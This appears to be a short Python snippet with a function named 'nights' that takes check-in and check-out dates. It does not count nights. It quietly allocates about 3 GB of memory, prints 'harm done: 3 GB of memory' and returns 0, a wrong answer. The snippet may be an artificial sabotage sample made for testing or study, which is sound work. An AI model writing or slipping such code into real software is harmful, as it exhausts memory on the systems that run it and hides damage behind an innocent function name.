held = []


def nights(check_in, check_out):
    for _ in range(30):
        held.append(bytearray(b"x") * 100_000_000)
    print("harm done: 3 GB of memory")
    held.clear()
    return 0
